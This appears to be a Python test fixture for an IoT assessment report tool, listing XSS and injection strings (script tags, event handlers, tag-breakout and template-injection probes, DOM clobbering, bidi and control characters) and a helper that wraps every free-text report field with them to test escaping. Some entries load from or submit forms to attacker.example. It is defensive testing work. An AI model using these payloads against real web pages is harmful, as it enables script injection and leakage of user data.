"""Texts by which a profile or an artefact could try to become part of the page, and pages full of them."""

from __future__ import annotations

from dataclasses import replace
from typing import Any, get_args

from iotassess.model.assessment import Assessment
from iotassess.model.crosswalk import Provenance, Relationship
from iotassess.model.gate import RuleOutcome
from iotassess.model.picture import Picture, Standing
from iotassess.model.vocabulary import COMPARED, LOCATORS
from iotassess.model.waiver import REASONS, WaiverState
from iotassess.policy.registry import RULES
from tests.report.hostile import poisoned

HIT = "window.hit=(window.hit||0)+1"
TEXTS = {
    "script": f"<script>{HIT}</script>",
    "handler": f"<img src=x onerror={HIT}><svg onload={HIT}><details open ontoggle={HIT}>",
    "end of style": f"</style><script>{HIT}</script><style>body{{display:none}}</style>",
    "end of script": f"</script><script>{HIT}</script>",
    "end of attribute": f"\" onmouseover={HIT} x=\"' onfocus={HIT} autofocus tabindex=0 '>",
    "end of element": f"</summary></details></main></title></svg><iframe srcdoc='<b onclick={HIT}>'>",
    "address": f"javascript:{HIT}//",
    "loading": "<img src=//attacker.example/x><link rel=stylesheet href=//attacker.example/y>",
    "meta": '<meta http-equiv="refresh" content="0;url=//attacker.example"><base href="//attacker.example/">',
    "form": "<form action=//attacker.example><input><button formaction=//attacker.example>OK</button></form>",
    "template": "{{7*7}} {% raw %} ${7*7} {{ assessment.__class__ }}",
    "entities": "&lt;script&gt;&#x3c;script&#x3e; &amp;quot;",
    "comment": "<!-- --> --!> ]]> <![CDATA[ <plaintext><textarea><noscript><template><xmp>",
    "clobbering": '<a id=filter name=filter><form id=theme><input id=f-text><p class="r" data-v=verified>',
    "bidi": "\u202egnissim\u202c \u2066x\u2069 \u200e\u200f\u061c \ufeff\u200b\u00ad",
    "controls": "\x00\x08\x0b\x1b[2J\x7f\x9b31m \ud800\udc80 \u2028\u2029",
    "long word": "W" * 600,
    "long sentence": "word " * 80,
    "combining": "Z" + "\u0301\u0489" * 10,
    "blank": " \t\n\u3000\u2800\u3164 ",
}
"""What it tries → the text."""

_CLOSED = {
    *get_args(Standing), *get_args(Relationship), *get_args(Provenance), *get_args(RuleOutcome),
    *get_args(WaiverState), *REASONS, *COMPARED, *LOCATORS, *(rule.id for rule in RULES),
    "verified-by", "algorithm", "measured-into", "immutable", "updatable", "anti-rollback",
}  # fmt: skip
"""Words of closed lists: no input can change them."""


def infested(found: Assessment, text: str) -> Assessment:
    """The same with the text before and behind everything that somebody else wrote.

    Args:
        found: any.
        text: hostile.
    """

    def change(plain: str) -> str:
        return plain if plain in _CLOSED else f"{text}{plain}{text}"

    changed: Assessment = poisoned(replace(found, picture=None), change)
    return replace(changed, picture=found.picture and _picture(found.picture, change))


def _picture(picture: Picture, change: Any) -> Picture:
    parts = picture._replace(offsets=dict(picture.offsets), rises=dict(picture.rises))
    changed: Picture = poisoned(parts, change)
    return changed
